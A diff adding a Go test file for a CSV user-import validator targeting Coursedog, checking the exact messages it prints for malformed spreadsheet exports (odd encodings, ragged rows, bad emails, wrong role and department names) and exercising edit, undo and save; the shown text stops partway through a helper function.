@@ -1,0 +1,745 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"usersync/csvfile"
+	"usersync/sync"
+	"usersync/sync/coursedog"
+)
+
+// The school's live configuration for the cases that need it: roles and
+// departments as the coursedog target fetches them.
+var (
+	hostileRoles = []csvfile.Choice{
+		{Value: "r-6f1e2d93", Label: "Faculty"},
+		{Value: "r-2b8e4d10", Label: "Scheduling Admin", Prebuilt: true},
+		{Value: "r-0a1b2c3d", Label: "Super Admin", Prebuilt: true},
+		{Value: "r-4c4c4c4c", Label: "Advisor"},
+		{Value: "r-5d5d5d5d", Label: "Advisor"},
+	}
+	hostileDepartments = []csvfile.Choice{
+		{Value: "Mathematics", Label: "MATH"},
+		{Value: "Physics", Label: "PHYS"},
+		{Value: "Chemistry", Label: "CHEM"},
+		{Value: "Languages, Literatures and Cultures", Label: "LLC"},
+	}
+)
+
+// hostileCase is one file of testdata/hostile and what usersync says of it.
+type hostileCase struct {
+	file string   // in testdata/hostile
+	args []string // more arguments to validate (--delimiter, --map)
+	// known validates with the school's roles and departments known, as
+	// plan and the guided import do (validate offline cannot fetch them);
+	// the lines are then printed by validate's own printer.
+	known bool
+	code  int // validate's exit status
+	// out is every line validate prints but blank lines and group titles
+	// ("Errors (2 in 1 row; …):"), exactly, in order; $F is the file's path.
+	out []string
+}
+
+const hostileFixCDP = `    fix: use "courseDemandProjections"`
+
+var hostileCases = []hostileCase{
+	// --- Excel and other spreadsheet exports ---
+	{file: "excel_csv_utf8_bom_crlf.csv", code: exitOK, out: []string{
+		"$F: 3 rows for coursedog (UTF-8 with BOM, comma-delimited)",
+		"$F: 3 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "excel_semicolon_bom_crlf.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8 with BOM, semicolon-delimited)",
+		`$F:3: Products: "Course Demand Projections" is a name, not a product key; use "courseDemandProjections"`,
+		hostileFixCDP,
+		"$F: 2 rows valid, 1 row with errors; 1 error, 0 warnings"}},
+	{file: "excel_sep_line.csv", code: exitRowsFailed, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, semicolon-delimited)",
+		`$F:4: Email: "Lukas Becker <lukas.becker@example.edu>" is not a bare address; use "lukas.becker@example.edu"`,
+		`    fix: use "lukas.becker@example.edu"`,
+		"$F: 1 row valid, 1 row with errors; 1 error, 0 warnings"}},
+	{file: "excel_unicode_text_utf16le.txt", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-16LE, tab-delimited)",
+		"$F:2: Email: this email is also on line 4",
+		"$F:4: Email: this email is also on line 2",
+		"$F: 1 row valid, 2 rows with errors; 2 errors, 0 warnings"}},
+	{file: "unicode_text_utf16be.txt", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-16BE, tab-delimited)",
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "utf16le_no_bom.csv", code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-16LE, comma-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "windows1252_excel.csv", code: exitOK, out: []string{
+		"$F: 4 rows for coursedog (Windows-1252, comma-delimited)",
+		"$F: the file is not UTF-8 (first on line 3); it was read as Windows-1252, so check accented letters",
+		"$F: 4 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "windows1252_semicolon_german.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (Windows-1252, semicolon-delimited)",
+		"$F: the file is not UTF-8 (first on line 1); it was read as Windows-1252, so check accented letters",
+		`$F:1: Straße: "Straße" is not a coursedog column; it is kept but not imported`,
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 2 warnings"}},
+	{file: "utf8_bom_with_ansi_rows.csv", code: exitOK, out: []string{
+		"$F: 3 rows for coursedog (UTF-8 with BOM, comma-delimited)",
+		"$F: the file says it is UTF-8 but has bytes that are not (first on line 4); they were read as Windows-1252, so check accented letters",
+		"$F: 3 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "mac_cr_line_ends.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:3: Email: "alan.turing@example" is not an email address: the domain "example" has no dot`,
+		"$F: 2 rows valid, 1 row with errors; 1 error, 0 warnings"}},
+	// The cell's line feed is a line of its own, so Alan's row is on line 4.
+	{file: "mac_cr_with_line_feed_in_cell.csv", code: exitRowsFailed, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:4: Email: "alan.turing@example" is not an email address: the domain "example" has no dot`,
+		`$F:1: Notes: "Notes" is not a coursedog column; it is kept but not imported`,
+		"$F: 1 row valid, 1 row with errors; 1 error, 1 warning"}},
+	{file: "google_sheets.tsv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, tab-delimited)",
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "libreoffice_quote_all.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "pipe_delimited.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required columns "First Name", "Last Name", "Email" and "Products"; the header has "First Name|Last Name|Email|Products|Unique ID|Department|…" (one column holding pipes: is the delimiter right?)`,
+		`if a column has another name, map it: --map "HEADER=First Name"`}},
+	{file: "pipe_delimited.csv", args: []string{"--delimiter", "|"}, code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, pipe-delimited)",
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+
+	// --- Rows that do not fit ---
+	{file: "ragged_short_rows.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:3: Products: required, but the cell is empty",
+		"$F:3: the row has 3 cells but the header has 8; the missing cells are read as empty",
+		"$F:4: the row has 4 cells but the header has 8; the missing cells are read as empty",
+		"$F: 2 rows valid, 1 row with errors; 1 error, 2 warnings"}},
+	// "Luther King, Jr." unquoted: every cell after it moves right.
+	{file: "ragged_long_rows.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:3: Email: "Jr." is not an email address: it has no "@"`,
+		`$F:3: Products: "martin.king@example.edu" is not a product key; use one of: scheduling, curriculum, syllabus, events, catalog, courseDemandProjections`,
+		"$F:3: the row has 9 cells but the header has 8; the extra cells are empty and ignored",
+		"$F:3: Email: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F:4: the row has 11 cells but the header has 8; the extra cells are empty and ignored",
+		"$F: 2 rows valid, 1 row with errors; 2 errors, 3 warnings"}},
+	// Ada's notes span lines 2-4, Alan's products 5-6: Grace is on line 7.
+	{file: "multiline_quoted_cells.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:5: Products: "scheduling\nevents" holds several product keys on separate lines; put commas between them: "scheduling, events"`,
+		`    fix: use "scheduling, events"`,
+		`$F:7: Email: "grace hopper@example.edu" is not an email address: it contains a space`,
+		`    fix: use "gracehopper@example.edu"`,
+		`$F:1: Notes: "Notes" is not a coursedog column; it is kept but not imported`,
+		"$F: 1 row valid, 2 rows with errors; 2 errors, 1 warning"}},
+	{file: "unclosed_quote.csv", code: exitUsage, out: []string{
+		"usersync validate: $F:3:2: a quoted cell starts here and is never closed"}},
+	{file: "text_after_closing_quote.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Last Name: text after the closing quote; read as "Lovelace (Countess)"`,
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "blank_lines_and_empty_rows.csv", code: exitOK, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:3: blank line ignored",
+		"$F:5: empty row ignored",
+		"$F:9: empty row ignored",
+		"$F:10: empty row ignored",
+		"$F: 3 rows valid, 0 rows with errors; 0 errors, 4 warnings"}},
+	{file: "whitespace_around_values.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:3: Last Name: required, but the cell is empty",
+		"$F:2: First Name: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F:2: Last Name: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F:2: Email: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F:3: Products: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F:4: Email: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F: 2 rows valid, 1 row with errors; 1 error, 5 warnings"}},
+	{file: "excel_trailing_empty_columns.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: columns 9 to 258 have no header; their cells are kept but not imported",
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "two_exports_joined.csv", code: exitRowsFailed, out: []string{
+		"$F: 3 rows for coursedog (UTF-8 with BOM, comma-delimited)",
+		"$F:3: this row repeats the header (were two files joined?); delete the row",
+		"$F: 2 rows valid, 1 row with errors; 1 error, 0 warnings"}},
+	{file: "excel_ids_shortened.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Unique ID: "1.00235E+11" looks like a long number a spreadsheet shortened, and its other digits are lost; format the column as text in the spreadsheet and export again`,
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "title_line_above_header.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required columns "First Name", "Last Name", "Email" and "Products"; the header has "Staff export 2024-05-01"`,
+		`if a column has another name, map it: --map "HEADER=First Name"`}},
+
+	// --- Headers ---
+	{file: "duplicate_email_columns.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1:5: columns 3 ("Email") and 5 ("E-mail") both mean "Email"; map one of them to something else`}},
+	{file: "duplicate_email_columns.csv", args: []string{"--map", "E-mail="}, code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "duplicate_unknown_headers.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1:6: columns 5 ("Notes") and 6 ("notes") have the same header`}},
+	{file: "missing_products_column.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required column "Products"; the header has "First Name", "Last Name", "Email", "Unique ID" and "Department"`,
+		`if a column has another name, map it: --map "HEADER=Products"`}},
+	{file: "wrong_file_course_list.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required columns "First Name", "Last Name", "Email" and "Products"; the header has "Course Code", "Title", "Credits" and "Instructor"`,
+		`if a column has another name, map it: --map "HEADER=First Name"`}},
+	{file: "headers_odd_case_and_spacing.csv", code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "headers_aliases.csv", code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "unknown_columns_kept.csv", code: exitOK, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:1: Phone: "Phone" is not a coursedog column; it is kept but not imported`,
+		`$F:1: Title: "Title" is not a coursedog column; it is kept but not imported`,
+		`$F:1: Office: "Office" is not a coursedog column; it is kept but not imported`,
+		"$F: 2 rows valid, 0 rows with errors; 0 errors, 3 warnings"}},
+	{file: "unnamed_columns.csv", code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: column 3 has no header; its cells are kept but not imported",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 1 warning"}},
+	{file: "localized_french_headers.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required columns "First Name", "Last Name", "Email" and "Products"; the header has "Prénom", "Nom", "Courriel", "Produits" and "Service"`,
+		`if a column has another name, map it: --map "HEADER=First Name"`}},
+	{file: "localized_french_headers.csv", args: []string{"--map", "Prénom=First Name", "--map", "Nom=Last Name",
+		"--map", "Courriel=Email", "--map", "Produits=Products", "--map", "Service=Department"}, code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8 with BOM, semicolon-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "header_quoted_with_asterisks.csv", code: exitOK, out: []string{
+		"$F: 1 rows for coursedog (UTF-8 with BOM, comma-delimited)",
+		"$F: 1 row valid, 0 rows with errors; 0 errors, 0 warnings"}},
+
+	// --- Formulas: read as data (the report escapes them; see below) ---
+	{file: "formulas_in_cells.csv", code: exitOK, out: []string{
+		"$F: 3 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:1: Phone: "Phone" is not a coursedog column; it is kept but not imported`,
+		"$F: 3 rows valid, 0 rows with errors; 0 errors, 1 warning"}},
+
+	// --- Not a user file, or nothing in it ---
+	{file: "empty.csv", code: exitUsage, out: []string{"usersync validate: $F: the file is empty"}},
+	{file: "bom_only.csv", code: exitUsage, out: []string{"usersync validate: $F: the file is empty"}},
+	{file: "only_blank_lines.csv", code: exitUsage, out: []string{"usersync validate: $F: the file has only blank lines"}},
+	{file: "header_only.csv", code: exitUsage, out: []string{"usersync validate: $F:1: the file has a header but no rows"}},
+	{file: "header_and_empty_rows.csv", code: exitUsage, out: []string{"usersync validate: $F:1: the file has a header but no rows"}},
+	{file: "cell_over_1mib.csv", code: exitUsage, out: []string{
+		"usersync validate: $F:3:9: a cell is longer than 1 MiB; this does not look like a user file"}},
+	{file: "png_image.csv", code: exitUsage, out: []string{
+		"usersync validate: $F: this is a PNG image, not a CSV file"}},
+	{file: "xlsx_renamed.csv", code: exitUsage, out: []string{
+		"usersync validate: $F: this is an Excel workbook or a zip archive, not a CSV file; in Excel use Save As and choose CSV UTF-8"}},
+	{file: "xls_renamed.csv", code: exitUsage, out: []string{
+		"usersync validate: $F: this is an Excel 97-2003 workbook (or another Office document), not a CSV file; in Excel use Save As and choose CSV UTF-8"}},
+	{file: "nul_bytes_after_crash.csv", code: exitUsage, out: []string{
+		"usersync validate: $F:3: binary data (a NUL byte): this is not a CSV text file"}},
+	{file: "html_error_page.csv", code: exitUsage, out: []string{
+		`usersync validate: $F:1: missing required columns "First Name", "Last Name", "Email" and "Products"; the header has "<!DOCTYPE html>"`,
+		`if a column has another name, map it: --map "HEADER=First Name"`}},
+
+	// --- Emails ---
+	{file: "emails_display_names.csv", code: exitRowsFailed, out: []string{
+		"$F: 4 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Email: "Ada Lovelace <ada.lovelace@example.edu>" is not a bare address; use "ada.lovelace@example.edu"`,
+		`    fix: use "ada.lovelace@example.edu"`,
+		`$F:3: Email: ""Hopper, Grace" <grace.hopper@example.edu>" is not a bare address; use "grace.hopper@example.edu"`,
+		`    fix: use "grace.hopper@example.edu"`,
+		`$F:4: Email: "mailto:alan.turing@example.edu" is not a bare address; use "alan.turing@example.edu"`,
+		`    fix: use "alan.turing@example.edu"`,
+		`$F:5: Email: "<edsger.dijkstra@example.edu>" is not a bare address; use "edsger.dijkstra@example.edu"`,
+		`    fix: use "edsger.dijkstra@example.edu"`,
+		"$F: 0 rows valid, 4 rows with errors; 4 errors, 0 warnings"}},
+	{file: "emails_spaces_and_dots.csv", code: exitRowsFailed, out: []string{
+		"$F: 11 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Email: "ada lovelace@example.edu" is not an email address: it contains a space`,
+		`    fix: use "adalovelace@example.edu"`,
+		`$F:3: Email: "grace.hopper@example.edu." is not an email address: the domain "example.edu." has an empty part`,
+		`    fix: use "grace.hopper@example.edu"`,
+		`$F:4: Email: "alan.turing@example,edu" is not an email address: it contains ","`,
+		`    fix: use "alan.turing@example.edu"`,
+		`$F:5: Email: "barbara.liskov@example..edu" is not an email address: the domain "example..edu" has an empty part`,
+		`    fix: use "barbara.liskov@example.edu"`,
+		`$F:6: Email: "ken@@example.edu" is not an email address: it has more than one "@"`,
+		`$F:7: Email: "dennis.ritchie@example" is not an email address: the domain "example" has no dot`,
+		`$F:8: Email: "linus.@example.edu" is not an email address: the part before "@" starts or ends with a dot or has two dots in a row`,
+		"$F:9: Email: \"margaret\u00a0hamilton@example.edu\" is not an email address: it contains a space",
+		`    fix: use "margarethamilton@example.edu"`,
+		"$F:10: Email: \"donald.knuth\u200b@example.edu\" is not an email address: it contains an invisible character (U+200B)",
+		`    fix: use "donald.knuth@example.edu"`,
+		`$F:11: Email: "“frances.allen@example.edu”" is not an email address: it contains "“"`,
+		`    fix: use "frances.allen@example.edu"`,
+		"$F: 1 row valid, 10 rows with errors; 10 errors, 0 warnings"}},
+	// Ada is on lines 2, 5 and 7 in three spellings; Alan's first row
+	// spans lines 3-4.
+	{file: "emails_duplicates_across_case.csv", code: exitRowsFailed, out: []string{
+		"$F: 6 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:2: Email: this email is also on lines 5 and 7",
+		"$F:3: Email: this email is also on line 8",
+		"$F:5: Email: this email is also on lines 2 and 7",
+		"$F:7: Email: this email is also on lines 2 and 5",
+		"$F:8: Email: this email is also on line 3",
+		`$F:1: Notes: "Notes" is not a coursedog column; it is kept but not imported`,
+		"$F:5: Email: spaces before or after the value are ignored",
+		"    fix: remove the spaces",
+		"$F: 1 row valid, 5 rows with errors; 5 errors, 2 warnings"}},
+	{file: "emails_copied_from_mail.csv", code: exitRowsFailed, out: []string{
+		"$F: 4 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Email: "ada.lovelace@example.edu;" is not an email address: it contains ";"`,
+		`    fix: use "ada.lovelace@example.edu"`,
+		`$F:3: Email: "'grace.hopper@example.edu'" is not an email address: it contains "'"`,
+		`    fix: use "grace.hopper@example.edu"`,
+		`$F:4: Email: "alan.turing@example.edu, alan@example.org" holds 2 addresses; a row is one user: keep one here and give the others rows of their own`,
+		`$F:5: Email: "Edsger Dijkstra <edsger.dijkstra@example.edu>;" is not a bare address; use "edsger.dijkstra@example.edu"`,
+		`    fix: use "edsger.dijkstra@example.edu"`,
+		"$F: 0 rows valid, 4 rows with errors; 4 errors, 0 warnings"}},
+	{file: "emails_missing.csv", code: exitRowsFailed, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:2: Email: required, but the cell is empty",
+		"$F:3: First Name: required, but the cell is empty",
+		"$F:3: Last Name: required, but the cell is empty",
+		"$F:3: Email: required, but the cell is empty",
+		"$F:3: Products: required, but the cell is empty",
+		"$F: 0 rows valid, 2 rows with errors; 5 errors, 0 warnings"}},
+
+	// --- Products, roles, departments ---
+	{file: "products_display_names.csv", code: exitRowsFailed, out: []string{
+		"$F: 6 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Products: "Course Demand Projections" is a name, not a product key; use "courseDemandProjections"`,
+		hostileFixCDP,
+		`$F:4: Products: "course demand projection" is not a product key; did you mean "courseDemandProjections"?`,
+		hostileFixCDP,
+		`$F:5: Products: "Syllabi" is not a product key; did you mean "syllabus"?`,
+		`    fix: use "syllabus"`,
+		`$F:5: Products: "curriculm" is not a product key; did you mean "curriculum"?`,
+		`    fix: use "curriculum"`,
+		`$F:6: Products: "billing" is not a product key; use one of: scheduling, curriculum, syllabus, events, catalog, courseDemandProjections`,
+		`$F:7: Products: "events;catalog" holds several product keys separated by ";"; put commas between them: "events, catalog"`,
+		`    fix: use "events, catalog"`,
+		"$F: 1 row valid, 5 rows with errors; 6 errors, 0 warnings"}},
+	{file: "roles_names_for_ids.csv", known: true, code: exitRowsFailed, out: []string{
+		"$F: 6 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Role IDs: "Super Admin" is a name, not a role ID; use "r-0a1b2c3d"`,
+		`    fix: use "r-0a1b2c3d"`,
+		`$F:3: Role IDs: "Faculty" is a name, not a role ID; use "r-6f1e2d93"`,
+		`    fix: use "r-6f1e2d93"`,
+		`$F:4: Role IDs: "Advisor" names more than one role ID (r-4c4c4c4c, r-5d5d5d5d); use one of them`,
+		`$F:5: Role IDs: "r-99999999" is not a role ID; use one of: r-6f1e2d93, r-2b8e4d10, r-0a1b2c3d, r-4c4c4c4c, r-5d5d5d5d`,
+		`$F:6: Role IDs: "Facutly" is not a role ID; did you mean "r-6f1e2d93"?`,
+		`    fix: use "r-6f1e2d93"`,
+		`$F:7: Role IDs: more than one prebuilt role (r-0a1b2c3d "Super Admin", r-2b8e4d10 "Scheduling Admin"); Coursedog advises assigning at most one`,
+		"$F: 1 row valid, 5 rows with errors; 5 errors, 1 warning"}},
+	{file: "roles_names_for_ids.csv", code: exitOK, out: []string{ // offline: role IDs are not checked
+		"$F: 6 rows for coursedog (UTF-8, comma-delimited)",
+		"$F: 6 rows valid, 0 rows with errors; 0 errors, 0 warnings"}},
+	{file: "two_primary_departments.csv", code: exitRowsFailed, out: []string{
+		"$F: 2 rows for coursedog (UTF-8, comma-delimited)",
+		"$F:2: Department: only one primary department is allowed, found 2; list the others under Secondary Departments",
+		`$F:3: Secondary Departments: "Mathematics" is already the primary department`,
+		`    fix: remove "Mathematics"`,
+		"$F: 1 row valid, 1 row with errors; 1 error, 1 warning"}},
+	{file: "departments_known.csv", known: true, code: exitRowsFailed, out: []string{
+		"$F: 4 rows for coursedog (UTF-8, comma-delimited)",
+		`$F:2: Department: "MATH" is a name, not a department; use "Mathematics"`,
+		`    fix: use "Mathematics"`,
+		`$F:3: Department: "Mathmatics" is not a department; did you mean "Mathematics"?`,
+		`    fix: use "Mathematics"`,
+		`$F:3: Secondary Departments: "PHYS" is a name, not a department; use "Physics"`,
+		`    fix: use "Physics"`,
+		`$F:4: Department: "Astrology" is not a department; use one of: Mathematics, Physics, Chemistry, Languages, Literatures and Cultures`,
+		"$F: 1 row valid, 3 rows with errors; 4 errors, 0 warnings"}},
+}
+
+// groupTitle matches validate's "Errors (…):" and "Warnings (…):" lines.
+var groupTitle = regexp.MustCompile(`^(Errors|Warnings) \(.*\):$`)
+
+// TestHostileFiles runs every file of testdata/hostile (files operators
+// really bring; testdata/hostile/generate.go made them) through `usersync
+// validate` in-process and asserts its exit status and every line it
+// prints; then through the library as the guided import uses it (Open,
+// Validate, an edit and its undo, every suggested fix and their undo, Save
+// to a copy and a re-read of what was saved). Nothing recovers a panic: one
+// fails the test.
+func TestHostileFiles(t *testing.T) {
+	entries, err := os.ReadDir("testdata/hostile")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tested := map[string]bool{}
+	for _, c := range hostileCases {
+		tested[c.file] = true
+	}
+	var files []string
+	for _, e := range entries {
+		if name := e.Name(); name != "generate.go" {
+			files = append(files, name)
+			if !tested[name] {
+				t.Errorf("testdata/hostile/%s has no case", name)
+			}
+		}
+	}
+	if len(files) < 40 {
+		t.Errorf("%d files in the corpus, want at least 40", len(files))
+	}
+	for _, c := range hostileCases {
+		name := c.file
+		if len(c.args) > 0 {
+			name += " " + strings.Join(c.args, " ")
+		}
+		if c.known {
+			name += " (roles and departments known)"
+		}
+		t.Run(name, func(t *testing.T) {
+			path := "testdata/hostile/" + c.file
+			if _, err := os.Stat(path); err != nil {
+				t.Fatal(err)
+			}
+			opts := hostileOptions(t, c.args)
+			var code int
+			var stderr string
+			if c.known {
+				code, stderr = validateKnown(t, path, opts)
+			} else {
+				var stdout string
+				code, stdout, stderr = runOffline(t, append([]string{"validate", path}, c.args...)...)
+				if stdout != "" {
+					t.Errorf("stdout %q", stdout)
+				}
+			}
+			var got []string
+			for _, line := range strings.Split(stderr, "\n") {
+				if line != "" && !groupTitle.MatchString(line) {
+					got = append(got, line)
+				}
+			}
+			want := make([]string, len(c.out))
+			for i, line := range c.out {
+				want[i] = strings.ReplaceAll(line, "$F", path)
+			}
+			if code != c.code || !slices.Equal(got, want) {
+				t.Errorf("exit %d, want %d; lines\n%s\nwant\n%s", code, c.code, strings.Join(got, "\n"), strings.Join(want, "\n"))
+			}
+			exerciseFile(t, path, opts, code == exitUsage)
+		})
+	}
+}
+
+// hostileOptions turns validate's --delimiter and --map into csvfile.Options.
+func hostileOptions(t *testing.T, args []string) csvfile.Options {
+	var opts csvfile.Options
+	for i := 0; i+1 < len(args); i += 2 {
+		switch args[i] {
+		case "--delimiter":
+			d, err := parseDelimiter(args[i+1])
+			if err != nil {
+				t.Fatal(err)
+			}
+			opts.Delimiter = d
+		case "--map":
+			from, to, err := csvfile.ParseMapping(args[i+1])
+			if err != nil {
+				t.Fatal(err)
+			}
+			if opts.Mapping == nil {
+				opts.Mapping = map[string]string{}
+			}
+			opts.Mapping[from] = to
+		default:
+			t.Fatalf("argument %s", args[i])
+		}
+	}
+	return opts
+}
+
+// validateKnown validates with the roles and departments known and prints
+// the result as validate does.
+func validateKnown(t *testing.T, path string, opts csvfile.Options) (int, string) {
+	t.Helper()
+	f, err := csvfile.Open(path, coursedog.NewSchema(hostileRoles, hostileDepartments), opts)
+	if err != nil {
+		return exitUsage, "usersync validate: " + err.Error() + "\n"
+	}
+	v := csvfile.Validate(f)
+	var b bytes.Buffer
+	printValidation(&b, f, v, "coursedog")
+	if v.Errors() > 0 {
+		return exitRowsFailed, b.String()
+	}
+	return exitOK, b.String()
+}
+
+// exerciseFile puts a copy of the file through what the guided import does
+// with it, with the roles and departments known.
+func exerciseFile(t *testing.T, path string, opts csvfile.Options, unreadable bool) {
+	t.Helper()
+	orig, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	work := filepath.Join(t.TempDir(), filepath.Base(path))
+	if err := os.WriteFile(work, orig, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	schema := coursedog.NewSchema(hostileRoles, hostileDepartments)
+	f, err := csvfile.Open(work, schema, opts)
+	if err != nil {
+		var fe *csvfile.FileError
+		if !errors.As(err, &fe) || fe.Path != work || !strings.HasPrefix(err.Error(), work+":") {
+			t.Fatalf("open: %T %v, want a *csvfile.FileError naming %s", err, err, work)
+		}
+		if !unreadable {
+			t.Fatalf("open: %v, but validate read the file", err)
+		}
+		return
+	}
+	if unreadable {
+		t.Fatal("open read the file validate could not")
+	}
+	v := csvfile.Validate(f)
+	checkCounts(t, f, v)
+	before := v.Messages()
+
+	// An edit that gives the first row the last row's email, and its undo.
+	ed := csvfile.NewEditor(f, v)
+	last := f.Len() - 1
+	if err := ed.Set(0, "email", f.Value(last, "email")+" "); err != nil {
+		t.Fatal(err)
+	}
+	checkCounts(t, f, v)
+	if !ed.Undo() || !reflect.DeepEqual(v.Messages(), before) || ed.Dirty() {
+		t.Fatalf("after undoing an edit (dirty %v)\n%+v\nwant\n%+v", ed.Dirty(), v.Messages(), before)
+	}
+
+	// Every suggested fix, then undo them all: back where it started.
+	for _, i := range v.Problems() {
+		for _, m := range slices.Clone(v.Row(i)) {
+			if m.Fix != nil {
+				if err := ed.ApplyFix(i, *m.Fix); err != nil {
+					t.Fatalf("line %d: fix %+v: %v", f.Line(i), m.Fix, err)
+				}
+			}
+		}
+	}
+	checkCounts(t, f, v)
+	for ed.Undo() {
+	}
+	if got := v.Messages(); !reflect.DeepEqual(got, before) || ed.Dirty() {
+		t.Fatalf("after undoing the fixes (dirty %v)\n%+v\nwant\n%+v", ed.Dirty(), got, before)
+	}
+
+	// An edit, saved to the copy; what is read back is what was saved.
+	if err := ed.Set(last, "lastName", "Ñúñez-Edited"); err != nil {
+		t.Fatal(err)
+	}
+	bak, err := ed.Save()
+	if err != nil {
+		t.Fatalf("save: %v", err)
+	}
+	if data, err := os.ReadFile(bak); err != nil || !bytes.Equal(data, orig) {
+		t.Errorf("backup %s: %v, not the original", bak, err)
+	}
+	readOpts := opts
+	readOpts.Delimiter = f.Delimiter()
+	again, err := csvfile.Open(work, schema, readOpts)
+	if err != nil {
+		t.Fatalf("re-read after save: %v", err)
+	}
+	if again.Len() != f.Len() || !slices.Equal(again.Header(), f.Header()) || again.Value(last, "lastName") != "Ñúñez-Edited" {
+		t.Fatalf("re-read %d rows %q (last name %q), saved %d rows %q",
+			again.Len(), again.Header(), again.Value(last, "lastName"), f.Len(), f.Header())
+	}
+	for i := range f.Len() {
+		want := f.Cells(i)
+		for len(want) < len(f.Header()) {
+			want = append(want, "")
+		}
+		if got := again.Cells(i); !slices.Equal(got, want) || again.Line(i) != f.Line(i) {
+			t.Fatalf("row %d re-read %q on line %d, saved %q on line %d", i, got, again.Line(i), want, f.Line(i))
+		}
+	}
+	if got, want := csvfile.Validate(again).Messages(), v.Messages(); !reflect.DeepEqual(got, want) {
+		t.Errorf("re-read after save\n%+v\nthe editor's\n%+v", got, want)
+	}
+}
+
+// checkCounts asserts that the counts and the messages agree and that
+// every row message is on its row's line.
+func checkCounts(t *testing.T, f *csvfile.File, v *csvfile.Validation) {
+	t.Helper()
+	errs, warns, bad := 0, len(f.Warnings()), 0
+	for i := range f.Len() {
+		rowBad := false
+		for _, m := range v.Row(i) {
+			if m.Line != f.Line(i) || m.Text == "" {
+				t.Fatalf("row %d (line %d): message %+v", i, f.Line(i), m)
+			}
+			if m.Severity == csvfile.Error {
+				errs++
+				rowBad = true
+			} else {
+				warns++
+			}
+		}
